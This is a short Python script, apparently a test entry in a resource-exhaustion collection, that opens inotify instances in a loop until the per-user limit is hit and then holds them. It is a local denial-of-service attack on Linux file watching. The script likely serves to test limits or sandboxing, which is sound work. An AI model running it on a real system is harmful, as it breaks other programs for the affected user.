# title: take all the inotify instances of a user
# kind: exhaust
from attack import *
while libc.inotify_init() >= 0:
    pass
hold()
